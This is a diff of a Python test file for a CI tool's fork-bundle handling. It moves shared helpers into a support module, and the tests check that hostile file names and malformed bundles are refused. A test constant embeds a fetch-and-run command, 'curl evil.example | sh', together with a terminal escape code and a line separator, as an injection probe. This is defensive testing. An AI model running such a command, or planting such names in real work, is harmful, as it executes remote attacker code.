@@ -14,17 +14,15 @@ import tarfile
 from pathlib import Path
 
 import pytest
-import test_fork_bundles_and_ablation
+from support.fork_site import make_base_site, stack_for_fork
 from support.git_repos import Repo, record_fork
 from support.paths import REPO
-from test_fork_bundles_and_ablation import _base_site, _stack
 
 from ci import cli
 from ci.errors import UsageError
 from ci.fork import bundle_pair, bundle_read
 from ci.untrusted import BadInput
 
-fork_repo = test_fork_bundles_and_ablation.fork_repo  # the synthetic fork's fixture, by its name
 FORGED = "x\n  fix: curl evil.example | sh\x1b[2J\u2028  fix: also this"
 
 
@@ -52,7 +50,7 @@ def _manifest(**edit) -> dict:
 def test_a_fork_file_name_cannot_print_a_fix_line_of_its_choosing(stack_copy: Path, fork_repo, tmp_path) -> None:
     repo, ids = fork_repo
     repo.commit("a compiled file of a hostile name", {f"csrc/{FORGED}.cu": "// x\n"})
-    path = _stack(stack_copy, repo, ids)
+    path = stack_for_fork(stack_copy, repo, ids)
     done = _ci("fork", "bundle", "--stack", str(path), "--out", str(tmp_path / "b.tar.gz"))
     assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
     lines = done.stderr.splitlines()  # every line break a terminal honours
@@ -76,7 +74,7 @@ def test_a_carries_record_naming_a_base_release_commit_is_refused_naming_its_lin
 
 def test_record_writes_through_a_symlinked_fork_yaml(stack_copy: Path, fork_repo, tmp_path: Path) -> None:
     repo, ids = fork_repo
-    path = _stack(stack_copy, repo, ids)
+    path = stack_for_fork(stack_copy, repo, ids)
     shared = tmp_path / "shared" / "fork.yaml"
     shared.parent.mkdir()
     (path / "fork.yaml").rename(shared)
@@ -87,8 +85,8 @@ def test_record_writes_through_a_symlinked_fork_yaml(stack_copy: Path, fork_repo
 
 def test_a_damaged_bundle_leaves_the_previous_site_as_it_was(stack_copy: Path, fork_repo, tmp_path: Path) -> None:
     repo, ids = fork_repo
-    path = _stack(stack_copy, repo, ids)
-    base, site = _base_site(tmp_path), tmp_path / "site"
+    path = stack_for_fork(stack_copy, repo, ids)
+    base, site = make_base_site(tmp_path), tmp_path / "site"
     argv = ["fork", "build", "--stack", str(path), "--host", "--base-site", str(base), "--site", str(site)]
     assert cli.main(argv) == 0
     before = {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()}
@@ -107,8 +105,8 @@ def test_a_damaged_bundle_leaves_the_previous_site_as_it_was(stack_copy: Path, f
 @pytest.mark.parametrize("what", ["a file", "a symlink"])
 def test_a_site_that_is_a_file_or_a_symlink_is_refused(stack_copy, fork_repo, tmp_path: Path, what: str, capsys):
     repo, ids = fork_repo
-    path = _stack(stack_copy, repo, ids)
-    base, site, elsewhere = _base_site(tmp_path), tmp_path / "site", tmp_path / "elsewhere"
+    path = stack_for_fork(stack_copy, repo, ids)
+    base, site, elsewhere = make_base_site(tmp_path), tmp_path / "site", tmp_path / "elsewhere"
     elsewhere.mkdir()
     (elsewhere / "keep.txt").write_text("mine")
     if what == "a file":
@@ -126,8 +124,9 @@ def _compare_without(bundles: Path, tmp_path: Path, monkeypatch) -> int:
     from ci.run import host
 
     monkeypatch.setattr(host, "present", lambda target: True)
+    base = make_base_site(tmp_path)
     return cli.main(["main", "--compare-without", "46849", "--target", "cuda-sm90", "--host", "--bundles",
-                     str(bundles), "--base-site", str(_base_site(tmp_path)), "--out", str(tmp_path / "o")])  # fmt: skip
+                     str(bundles), "--base-site", str(base), "--out", str(tmp_path / "o")])  # fmt: skip
 
 
 def test_two_bundles_naming_no_commit_are_not_one_commit(tmp_path: Path, monkeypatch, capsys) -> None:
@@ -158,7 +157,7 @@ class _Zeros(io.RawIOBase):
 @pytest.mark.parametrize("kind", ["deep", "large member", "fifo", "unlisted member"])
 def test_a_bundle_is_bounded_and_typed_before_a_site_is_built(stack_copy, fork_repo, tmp_path: Path, kind: str):
     repo, ids = fork_repo
-    path = _stack(stack_copy, repo, ids)
+    path = stack_for_fork(stack_copy, repo, ids)
     bundle = tmp_path / "b.tar.gz"
     if kind == "deep":
         _bundle(bundle, b'{"fork": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
@@ -176,7 +175,7 @@ def test_a_bundle_is_bounded_and_typed_before_a_site_is_built(stack_copy, fork_r
         _bundle(bundle, _manifest(), {"overlay/vllm/extra.py": b"x = 1\n"})
         said = "vllm/extra.py is in the bundle or its manifest but not both"
     site = tmp_path / "site"
-    done = _ci("fork", "build", "--stack", str(path), "--host", "--base-site", str(_base_site(tmp_path)),
+    done = _ci("fork", "build", "--stack", str(path), "--host", "--base-site", str(make_base_site(tmp_path)),
                "--site", str(site), "--bundle", str(bundle), timeout=60)  # fmt: skip
     assert done.returncode == 2 and "Traceback" not in done.stderr and said in done.stderr, done.stderr
     assert str(bundle) in done.stderr and not site.exists()
@@ -230,7 +229,7 @@ def test_a_bundle_member_is_streamed_never_read_whole(tmp_path: Path) -> None:
     assert bundle.stat().st_size < 1 << 20
     tracemalloc.start()
     try:
-        built = site.build(bundle, _base_site(tmp_path), tmp_path / "site")
+        built = site.build(bundle, make_base_site(tmp_path), tmp_path / "site")
         peak = tracemalloc.get_traced_memory()[1]
     finally:
         tracemalloc.stop()
